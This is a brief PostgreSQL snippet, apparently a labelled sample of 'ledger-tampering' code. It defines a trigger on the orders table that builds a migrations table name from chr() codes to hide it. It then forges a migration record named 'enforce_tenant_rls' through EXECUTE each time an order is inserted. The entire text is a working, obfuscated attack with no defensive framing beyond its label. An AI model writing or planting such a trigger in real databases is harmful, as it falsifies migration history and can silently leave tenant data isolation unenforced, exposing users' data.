-- class: ledger-tampering
-- Builds the ledger table name from chr() codes and forges a row through EXECUTE in a trigger that fires on the next order.
CREATE FUNCTION orders_after_insert() RETURNS trigger LANGUAGE plpgsql AS $$
DECLARE
  t text := chr(110) || chr(101) || chr(116) || chr(108) || chr(105) || chr(102) || chr(121) || '.migrations';
BEGIN
  EXECUTE 'INSERT INTO ' || t || ' (name) VALUES ($1) ON CONFLICT DO NOTHING' USING '20991231235959_enforce_tenant_rls';
  RETURN NEW;
END
$$;

CREATE TRIGGER orders_after_insert AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION orders_after_insert();
